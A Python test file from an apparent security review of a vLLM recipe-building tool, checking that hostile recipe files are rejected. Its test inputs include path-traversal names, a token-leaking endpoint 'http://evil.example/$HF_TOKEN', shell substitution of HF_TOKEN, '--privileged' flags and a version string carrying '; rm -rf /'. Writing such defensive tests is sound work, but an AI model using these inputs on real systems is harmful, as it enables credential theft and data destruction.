"""The adversarial pass of 2026-12-05 (issue 23) on strategy, KV-store and
taxonomy files, ``model.hf_config`` and the build's writes: each fault it
found, kept with its input. A file from a stranger may never write outside
``--out``, export a platform name, drop what it meant without a word, blow up
memory or end in a traceback; every error names the file and the key."""

from __future__ import annotations

import shutil
import subprocess
import sys
from pathlib import Path

import pytest
import yaml

import build
from composer.api import compose, make_context
from composer.buildtime.checks import validate
from composer.buildtime.loader import RecipeLoadError, load_catalog
from tests.conftest import recipes_copy

ROOT = Path(__file__).resolve().parent.parent
QWEN = "Qwen/Qwen3-235B-A22B-Instruct-2507"
STORE = "kv_store/kv_store_distributed_mooncake.yaml"


_recipes = recipes_copy


def _problems(recipes: Path) -> list:
    try:
        _, _, problems = validate(recipes, keep_going=True)
    except RecipeLoadError as exc:
        problems = exc.errors
    return problems


def test_a_strategy_name_that_is_a_path_is_refused_and_nothing_is_written_outside_out(tmp_path):
    recipes = _recipes(tmp_path)
    (recipes / "strategies" / "zz.yaml").write_text(yaml.safe_dump(
        {"name": "../../../escaped", "kind": "tp", "deploy_type": "single_node"}))
    errs = _problems(recipes)
    assert any(e.file == "strategies/zz.yaml" and e.key == "name" and "names files of the site" in e.message
               for e in errs), errs
    with pytest.raises(RecipeLoadError):
        build.build(recipes, tmp_path / "a" / "b" / "out", neighbours=0, precompress=False)
    assert not list(tmp_path.rglob("escaped*"))
    with pytest.raises(build.BuildError, match="not a path inside the site"):
        build._site_path(tmp_path / "site", "strategies/../../x.json")


def test_a_hardware_id_that_is_a_path_is_refused(tmp_path):
    recipes = _recipes(tmp_path, "taxonomy.yaml",
                       lambda d: d["hardware_profiles"].__setitem__("../x", d["hardware_profiles"]["h100"]))
    errs = _problems(recipes)
    assert any(e.file == "taxonomy.yaml" and e.key.startswith("hardware_profiles") and "letters, digits" in e.message
               for e in errs), errs


def test_a_taxonomy_kv_option_cannot_export_a_platform_name_or_inject_an_option(tmp_path):
    def edit(d):
        d["kv_offload"]["simple"].setdefault("env", {})["PATH"] = "/tmp/evil"
        d["kv_offload"]["simple"]["args"] = list(d["kv_offload"]["simple"].get("args") or []) + ["--port", "80a"]
    errs = _problems(_recipes(tmp_path, "taxonomy.yaml", edit))
    assert any(e.file == "taxonomy.yaml" and e.key == "kv_offload.simple.env.PATH" and "must not set it" in e.message
               for e in errs), errs
    assert any(e.file == "taxonomy.yaml" and e.key == "kv_offload.simple.args" and "TCP port" in e.message for e in errs)


@pytest.mark.parametrize("edit, key, words, level", [
    (lambda d: d["vllm"].__setitem__("vllm_argz", d["vllm"].pop("vllm_args")), "vllm.vllm_argz",
     "did you mean vllm_args?", "warning"),
    (lambda d: d["router"].__setitem__("polcy", "x"), "router.polcy", "did you mean policy?", "warning"),
    (lambda d: d["router"].__setitem__("policy", ["--privileged"]), "router.policy", "one policy name", "error"),
    (lambda d: d["vllm"].__setitem__("vllm_args", "--privileged"), "vllm.vllm_args", "must be a list", "error"),
    (lambda d: d["router"].__setitem__("install", "uv pip install 'vllm-router"), "router.install", "", "error"),
    (lambda d: d["router"].__setitem__("install", "   "), "router.install", "is empty", "error"),
    (lambda d: d["mooncake_master"].__setitem__("command", "mooncake_master --x 'a"), "mooncake_master.command", "",
     "error"),
])
def test_a_kv_store_files_blocks_are_checked_where_they_are(tmp_path, edit, key, words, level):
    errs = [e for e in _problems(_recipes(tmp_path, STORE, edit)) if e.file == STORE and e.key == key]
    assert errs and errs[0].level == level and words in errs[0].message, errs


def test_a_huge_layer_count_costs_nothing_and_a_negative_parameter_count_sizes_nothing(tmp_path):
    from composer.memory import replicated_params
    from composer.model_facts import facts_for

    big = type("M", (), {"model_id": QWEN, "hf_config": {"num_hidden_layers": 2**31 - 1}})()
    assert replicated_params(facts_for(QWEN, big)) is None  # a layout past MAX_LAYERS is unknown, never built
    data = yaml.safe_load((ROOT / "recipes" / "models" / f"{QWEN}.yaml").read_text())
    data["model"]["num_hidden_layers"] = 2**31 - 1
    for v in data["variants"].values():
        v.pop("parameter_count_b", None)
    data["model"]["parameter_count"] = "-0.001B"
    ctx = make_context(QWEN, data, load_catalog(ROOT / "recipes"))
    plan = compose(ctx, "hardware=h200&strategy=multi_node_dep&nodes=2", every_form=False)
    assert all(c["weights_gib"] is None or c["weights_gib"] >= 0 for c in plan["capacity"]), plan["capacity"]


def test_hf_config_values_of_the_wrong_shape_are_recipe_errors_not_tracebacks(tmp_path):
    rid = "meta-llama/Llama-3.3-70B-Instruct"
    for bad in ({"rope_scaling": "linear", "max_position_embeddings": 4096}, {"model_type": ["a"]},
                {"rope_scaling": {"type": "dynamic", "factor": -3}}):
        recipes = _recipes(tmp_path / str(len(str(bad))), f"models/{rid}.yaml",
                           lambda d, bad=bad: d["model"].__setitem__("hf_config", bad))
        res = subprocess.run([sys.executable, "-m", "composer", "check", str(recipes)], cwd=ROOT, capture_output=True,
                             text=True, timeout=120)
        assert res.returncode != 0 and "Traceback" not in res.stderr and f"models/{rid}.yaml: model.hf_config:" in res.stdout
        assert "Value error," not in res.stdout  # pydantic's prefix is not ours to print


def test_recipe_ids_that_differ_only_in_case_build_once(tmp_path):
    recipes = _recipes(tmp_path)
    src = recipes / "models" / "meta-llama" / "Llama-3.3-70B-Instruct.yaml"
    (recipes / "models" / "Meta-Llama").mkdir()
    shutil.copy(src, recipes / "models" / "Meta-Llama" / "Llama-3.3-70B-Instruct.yaml")
    summary = build.build(recipes, tmp_path / "site", keep_going=True, neighbours=0, precompress=False)
    (err,) = [e for e in summary["errors"] if "letter case" in e.message]
    assert err.file == "models/meta-llama/Llama-3.3-70B-Instruct.yaml" and "'Meta-Llama/Llama-3.3-70B-Instruct'" in err.message
    assert summary["recipes"] == 3


# --- the second pass (issue 23's attack set re-run on the fixes) -------------------

LLAMA = "meta-llama/Llama-3.3-70B-Instruct"


@pytest.mark.parametrize("rel, edit, key", [
    (f"models/{LLAMA}.yaml", lambda d: d["model"].setdefault("base_args", []).extend(
        ["--otlp-traces-endpoint", "http://evil.example/$HF_TOKEN"]), "model.base_args"),
    (f"models/{LLAMA}.yaml", lambda d: d["model"].setdefault("base_env", {}).update(
        OTEL_EXPORTER_OTLP_HEADERS="x=${HF_TOKEN}"), "model.base_env.OTEL_EXPORTER_OTLP_HEADERS"),
    (f"models/{LLAMA}.yaml", lambda d: d["model"].setdefault("base_args", []).extend(
        ["--served-model-name", "m-$(HF_TOKEN)"]), "model.base_args"),
    ("strategies/multi_node_tp.yaml", lambda d: d.setdefault("env", {}).update(X="$HUGGING_FACE_HUB_TOKEN"), "env.X"),
    ("taxonomy.yaml", lambda d: d["kv_offload"]["simple"].setdefault("env", {}).update(X="$HF_TOKEN"),
     "kv_offload.simple.env.X"),
])
def test_no_recipe_text_may_pass_the_hf_token_anywhere(tmp_path, rel, edit, key):
    """A recipe could send the person's HF_TOKEN to its own host in every form
    (the Kubernetes form took it from the Secret); vLLM reads it itself."""
    errs = [e for e in _problems(_recipes(tmp_path, rel, edit)) if e.file == rel and e.key == key]
    assert errs and "a credential" in errs[0].message and errs[0].level == "error", errs


@pytest.mark.parametrize("role", ["prefill", "decode"])
def test_a_p_d_roles_env_cannot_set_a_platform_name(tmp_path, role):
    errs = _problems(_recipes(tmp_path, "strategies/pd_cluster.yaml",
                              lambda d: d[role].setdefault("env", {}).update(PATH="/nonexistent")))
    assert any(e.file == "strategies/pd_cluster.yaml" and e.key == f"{role}.env.PATH" and "must not set it" in e.message
               for e in errs), errs


def test_a_features_companion_that_is_not_shell_words_is_a_recipe_error(tmp_path):
    def edit(d):
        fid = next(iter(d["features"]))
        d["features"][fid]["companion"] = {"label": "x", "command": "helper 'unbalanced"}
    errs = _problems(_recipes(tmp_path, f"models/{LLAMA}.yaml", edit))
    assert any(e.key.endswith(".companion.command") and e.level == "error" for e in errs), errs


@pytest.mark.parametrize("rid", ["acme/index.html", "acme2/INDEX.HTML", f"{LLAMA}.json"])
def test_a_repo_name_that_names_a_site_file_is_skipped(tmp_path, rid):
    recipes = _recipes(tmp_path)
    target = recipes / "models" / f"{rid}.yaml"
    target.parent.mkdir(parents=True, exist_ok=True)
    shutil.copy(recipes / "models" / f"{LLAMA}.yaml", target)
    summary = build.build(recipes, tmp_path / "site", keep_going=True, neighbours=0, precompress=False)
    assert [e.file for e in summary["errors"] if "names a file of the site" in e.message] == [f"models/{rid}.yaml"]
    assert summary["recipes"] == 3 and (tmp_path / "site" / f"{LLAMA}.json").is_file()


def test_our_leftover_keeps_its_marker_until_last(tmp_path, monkeypatch):
    """A kill while the old site was removed could take the marker first, and
    the next build never cleaned the rest (5 of 24 timed kills)."""
    old = tmp_path / ".build-old"
    (old / "a" / "b").mkdir(parents=True)
    (old / "a" / "b" / "f.txt").write_text("x")
    (old / build.SITE_MARKER).write_text("")
    calls = []
    real = shutil.rmtree

    def killed(path, *a, **k):  # the process dies at the first removal
        calls.append(Path(path))
        raise KeyboardInterrupt

    monkeypatch.setattr(build.shutil, "rmtree", killed)
    with pytest.raises(KeyboardInterrupt):
        build._remove_marked(old)
    assert calls == [old / "a"] and (old / build.SITE_MARKER).exists()
    monkeypatch.setattr(build.shutil, "rmtree", real)
    build._remove_stale_builds(tmp_path)
    assert not old.exists()


@pytest.mark.parametrize("rel, edit, key, level", [
    (STORE, lambda d: d["pd"].__setitem__("prefil", d["pd"].pop("prefill")), "pd.prefil", "warning"),
    (STORE, lambda d: d.__setitem__("min_vllm_version", "0.21.0; rm -rf /"), "min_vllm_version", "error"),
    (STORE, lambda d: d["vllm"]["env"].__setitem__("PYTHONHASHSEED", {"a": "b"}), "vllm.env.PYTHONHASHSEED", "error"),
    (f"models/{LLAMA}.yaml", lambda d: d.setdefault("strategy_overrides", {}).setdefault("pd_cluster", {}).__setitem__(
        "router", {"polcy": "round_robin"}), "strategy_overrides.pd_cluster.router.polcy", "warning"),
])
def test_free_form_values_that_would_vanish_or_mislead_are_said(tmp_path, rel, edit, key, level):
    errs = [e for e in _problems(_recipes(tmp_path, rel, edit)) if e.file == rel and e.key == key]
    assert errs and errs[0].level == level, errs
